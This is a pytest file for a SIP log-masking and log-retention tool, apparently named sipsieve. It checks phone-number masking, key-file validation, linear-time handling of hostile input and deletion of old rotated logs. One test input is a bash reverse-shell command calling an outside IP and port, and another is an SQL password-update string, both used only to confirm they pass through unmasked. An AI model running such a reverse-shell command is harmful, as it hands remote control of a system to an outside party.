"""Numbers in records are masked: unreadable, the same for the same number, and nothing else is touched."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from sipsieve.config.policy import PolicyError, Privacy
from sipsieve.decision_log.privacy import Mask, key_of
from sipsieve_analysis.cli import main

MASK = Mask(b"0123456789abcdef", every_user=False)
NUMBER = MASK.number("4930123456")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("sip:+4930123456@203.0.113.7:15060;user=phone", f"sip:{NUMBER}@203.0.113.7:15060;user=phone"),
        ("sip:004930123456;phone-context=x@a.example", f"sip:{NUMBER};phone-context=x@a.example"),
        ("tel:+49-30-123456;ext=7", f"tel:{NUMBER};ext=7"),
        ("sip:100@203.0.113.7", f"sip:{MASK.number('100')}@203.0.113.7"),
        ("sip:alice@203.0.113.7", "sip:alice@203.0.113.7"),
        ("sip:203.0.113.7:15060", "sip:203.0.113.7:15060"),
        ("Call me: +4930123456", f"Call me: {NUMBER}"),
        ("bash -i >& /dev/tcp/216.126.227.195:3456 0>&1", "bash -i >& /dev/tcp/216.126.227.195:3456 0>&1"),
        ("UPDATE users SET password='x'", "UPDATE users SET password='x'"),
    ],
)
def test_numbers_are_masked_and_nothing_else(text: str, shown: str) -> None:
    assert MASK.text(text) == shown


def test_masks_depend_on_the_key_and_do_not_tell_the_number() -> None:
    assert Mask(b"another key of 16", False).number("4930123456") != NUMBER
    assert "4930" not in NUMBER


def test_all_users_can_be_masked() -> None:
    every = Mask(b"0123456789abcdef", every_user=True)
    assert "alice" not in every.text("sip:alice:secret@example.com")
    assert "alice" not in every.value("from.userinfo", "alice")
    assert every.text("sip:example.com") == "sip:example.com"


def test_the_key_file_is_checked(tmp_path: Path) -> None:
    path = tmp_path / "key"
    with pytest.raises(PolicyError, match=r"cannot be read.*openssl rand"):
        key_of(Privacy(mask="numbers", key_file=str(path)))
    path.write_text("short")
    with pytest.raises(PolicyError, match="5 bytes; allowed: from 16"):
        key_of(Privacy(mask="numbers", key_file=str(path)))
    path.write_text("0" * 64 + "\n")
    assert key_of(Privacy(mask="numbers", key_file=str(path))) == b"0" * 64
    assert key_of(Privacy(key_file=str(path))) == b""


def test_hostile_text_takes_linear_time() -> None:
    started = time.perf_counter()
    for text in ("sip:" * 20000, "sip:" + "1" * 80000, "1-" * 40000, "tel:" + "1" * 80000, "sip:a;" * 15000 + "@"):
        MASK.text(text)
    assert time.perf_counter() - started < 2


def test_old_rotated_logs_go_and_nothing_else(tmp_path: Path) -> None:
    log = tmp_path / "decisions.jsonl"
    policy = tmp_path / "p.toml"
    policy.write_text("[privacy]\nretention_days = 30\n")
    names = ["", ".1", ".2.gz", "-20260101.gz", ".ledger", ".patterns", ".1.bak", "x.1"]
    for name in names:
        path = tmp_path / f"{log.name}{name}"
        path.write_text("{}\n")
        os.utime(path, (1, time.time() - 31 * 86400))
    (tmp_path / f"{log.name}.3").write_text("{}\n")
    (tmp_path / f"{log.name}.4").symlink_to(policy)
    call = ["retention", "--policy", str(policy), "--log", str(log), "--json"]
    dry = json.loads(CliRunner().invoke(main, [*call, "--dry-run"]).stdout)
    assert len(dry["deleted"]) == 3
    assert log.with_name(f"{log.name}.1").exists()
    ran = CliRunner().invoke(main, call)
    assert ran.exit_code == 0
    left = {path.name.removeprefix(log.name) for path in tmp_path.iterdir()} - {"p.toml"}
    assert left == {"", ".3", ".4", ".ledger", ".patterns", ".1.bak", "x.1"}
    policy.write_text("")
    assert json.loads(CliRunner().invoke(main, call).stdout)["deleted"] == []
